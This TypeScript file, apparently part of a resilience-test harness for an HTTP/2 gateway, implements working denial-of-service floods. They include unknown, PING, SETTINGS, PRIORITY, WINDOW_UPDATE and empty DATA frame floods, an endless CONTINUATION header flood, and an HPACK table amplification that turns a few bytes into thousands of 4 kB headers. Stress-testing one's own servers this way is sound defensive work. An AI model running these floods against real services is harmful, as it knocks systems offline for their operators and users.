/** HTTP/2 frames without effect, by the million. */
import { flag, frame, frameType } from '../../lib/testing/h2-frames.js';
import { MiB } from '../../lib/units.js';
import type { Attack, Field } from '../attack.js';
import { headerBlock, setting, settingsFrame, windowUpdate } from '../wire/h2.js';
import { plainHeaders } from '../wire/messages.js';
import { openMany } from './peers.js';

const batch = 4_000;

/** Sends frames over two connections, as fast as the gateway reads them, opening others when it ends them. */
async function flood(field: Field, most: number, make: (stream: number) => Buffer, answers = false): Promise<void> {
  const lane = async (): Promise<void> => {
    while (field.counts.sent < most && !field.over) {
      const [peer] = await openMany(field, 1);
      if (peer === undefined) {
        await field.pause(50);
        continue;
      }
      const stream = peer.request(plainHeaders('POST', '/v1/events'), false);
      const bytes = Buffer.concat(Array.from({ length: batch }, () => make(stream)));
      while (field.counts.sent < most && !peer.over && !field.over) {
        const sent = await Promise.race([peer.write(bytes), field.untilOver()]);
        if (sent !== true) break;
        field.counts.sent += batch;
      }
      if (!answers) peer.socket.destroy();
    }
  };
  await Promise.race([Promise.all([lane(), lane()]), field.untilOver()]);
}

const floodOf = (name: string, what: string, most: number, make: (stream: number) => Buffer): Attack => ({
  name,
  about: `without a key, ${what}, as fast as two connections take them, at most ${most.toLocaleString('en')}`,
  run: (field) => flood(field, field.scaled(most), make),
});

const payload = Buffer.alloc(8);
const millions = 20_000_000;

export const frames: readonly Attack[] = [
  floodOf('unknown-frames', 'frames of an unknown type', millions, () => frame(0xfa, 0, 0, payload)),
  floodOf('window-updates', 'window updates of one byte', millions, () => windowUpdate(0, 1)),
  floodOf('priority-frames', 'PRIORITY frames', millions, (stream) =>
    frame(frameType.priority, 0, stream, Buffer.from([0, 0, 0, 0, 16])),
  ),
  floodOf('ping-flood', 'PING frames', millions, () => frame(frameType.ping, 0, 0, payload)),
  floodOf('settings-flood', 'SETTINGS frames', millions, () => settingsFrame({ [setting.window]: 65_535 })),
  floodOf('empty-data-frames', 'DATA frames without a byte', millions, (stream) => frame(frameType.data, 0, stream)),
  {
    name: 'continuation-flood',
    about: 'without a key, header blocks that go on forever, at most 200 MiB',
    async run(field) {
      const block = headerBlock(Array.from({ length: 100 }, (_, i) => [`x-header-${i}`, 'a'.repeat(100)] as const));
      const part = frame(frameType.continuation, 0, 1, block.subarray(0, 12_000));
      while (field.counts.bytesOut < field.scaled(200 * MiB) && !field.over) {
        const [peer] = await openMany(field, 1);
        if (peer === undefined) {
          await field.pause(50);
          continue;
        }
        peer.put(frame(frameType.headers, 0, 1, headerBlock(plainHeaders('POST', '/v1/events'))));
        while (!peer.over && !field.over && field.counts.bytesOut < field.scaled(200 * MiB)) {
          field.counts.sent++;
          if (!(await peer.write(part))) break;
        }
      }
    },
  },
  {
    name: 'huge-header-lists',
    about: 'without a key, calls whose few bytes name 4,000 headers of 4 kB out of the table, at most 20,000',
    async run(field) {
      // A literal that goes into the table, and then one byte for each time that it is named.
      const name = Buffer.from('\u0001x');
      const value = Buffer.alloc(4_000, 'a');
      const literal = Buffer.concat([Buffer.from([0x40]), name, Buffer.from([127, 0xa1, 0x1e]), value]);
      const again = Buffer.alloc(4_000, 0x80 | 62);
      const block = Buffer.concat([headerBlock(plainHeaders('POST', '/v1/events')), literal, again]);
      const lane = async (): Promise<void> => {
        while (field.counts.sent < field.scaled(20_000) && !field.over) {
          const [peer] = await openMany(field, 1);
          if (peer === undefined) await field.pause(50);
          for (let stream = 1; peer !== undefined && !peer.over && !field.over; stream += 2) {
            field.counts.sent++;
            const sent = peer.write(frame(frameType.headers, flag.endHeaders | flag.endStream, stream, block));
            if ((await Promise.race([sent, field.untilOver()])) !== true) break;
            if (stream % 64 === 1) await field.pause(1);
          }
          peer?.socket.destroy();
        }
      };
      await Promise.race([Promise.all([lane(), lane()]), field.untilOver()]);
    },
  },
];
